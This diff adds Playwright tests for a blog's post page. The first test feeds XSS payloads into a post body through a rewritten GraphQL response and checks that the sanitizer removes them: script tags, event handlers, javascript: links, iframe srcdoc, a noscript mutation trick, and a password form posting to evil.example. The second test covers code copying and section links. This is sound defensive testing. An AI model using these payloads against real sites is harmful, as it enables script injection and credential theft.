@@ -1,0 +1,92 @@
+import type { Page } from '@playwright/test';
+import { allPosts } from './support/api';
+import { FAILED_REQUEST } from './support/complaints';
+import { expect, test } from './support/test';
+
+/** What a defect of the API might let through. Each tries to run code or to leave the post. */
+const HOSTILE = [
+  '<p class="indent-1 button">kept</p>',
+  '<script>alert(1)</script>',
+  '<img src="/favicon.svg" onload="alert(1)" alt="picture">',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload="alert(1)"></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<p><a href="javascript:alert(1)">run</a> <a href="java\tscript:alert(1)">run too</a></p>',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<style>body { display: none }</style><p style="position: fixed; inset: 0" id="root">over</p>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+];
+
+const CODE = 'export const answer: number = 42; // for certain\n';
+
+const BODY = `
+  <h2>What it is about</h2>
+  <pre><code class="language-ts">${CODE}</code></pre>
+  <h2>What it is about</h2>
+  <p>Back to <a href="#what-it-is-about">the beginning</a>.</p>
+  <p><img src="/no/such/picture.webp" alt="A chart that is gone"></p>`;
+
+/** Opens a post whose body is `html`, as it came from the API. */
+async function openPost(page: Page, url: string, html: string) {
+  const [post] = await allPosts(url, 'LATEST');
+  await page.route('**/graphql', async (route) => {
+    const asked = route.request().postDataJSON() as { operationName?: string } | null;
+    if (asked?.operationName !== 'Post') return route.continue();
+    const response = await route.fetch();
+    const answer = (await response.json()) as { data: { post: Record<string, unknown> } };
+    answer.data.post.html = html;
+    return route.fulfill({ response, json: answer });
+  });
+  await page.goto(`/post/${post!.id}`);
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+}
+
+test("nothing that the API should have refused gets past the browser's own sanitizer", async ({
+  page,
+  server,
+  complaints,
+}) => {
+  // Chromium reports handlers when it parses them, before the sanitizer drops them.
+  complaints.allow(/^Executing inline event handler violates/);
+  let dialogs = 0;
+  page.on('dialog', (dialog) => {
+    dialogs += 1;
+    void dialog.dismiss();
+  });
+  await openPost(page, server.url, HOSTILE.join(''));
+  const body = page.getByRole('main').getByRole('article').first();
+  await expect(body.getByText('kept')).toHaveClass('indent-1');
+  await expect(body.getByText('run', { exact: true })).not.toHaveAttribute('href');
+  await expect(body.getByText('run too')).not.toHaveAttribute('href');
+  await expect(body.getByText('over')).not.toHaveAttribute('style');
+  await expect(body.locator('script, svg script, math, iframe, form, input, style, noscript')).toHaveCount(0);
+  await expect(body.getByAltText('picture')).not.toHaveAttribute('onload');
+  expect(dialogs).toBe(0);
+});
+
+test.describe('a body', () => {
+  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });
+
+  test('has colours in its code, which can be copied, and links to its sections', async ({
+    page,
+    server,
+    complaints,
+  }) => {
+    complaints.allow(FAILED_REQUEST);
+    await openPost(page, server.url, BODY);
+    const code = page.locator('pre code');
+    await expect(code.locator('span').first()).toHaveText('export');
+    await expect(code).toHaveText(CODE.trim());
+
+    await page.getByRole('button', { name: 'Copy code' }).press('Enter');
+    await expect(page.getByText('Copied')).toBeVisible();
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(CODE.trim());
+
+    await expect(page.getByText('A chart that is gone')).toBeVisible();
+    await page.getByRole('link', { name: 'the beginning' }).click();
+    await expect(page).toHaveURL(/#what-it-is-about$/);
+    await expect(page.getByRole('heading', { name: 'What it is about' }).first()).toBeFocused();
+    await expect(page.locator('#what-it-is-about-1')).toHaveText('What it is about');
+  });
+});
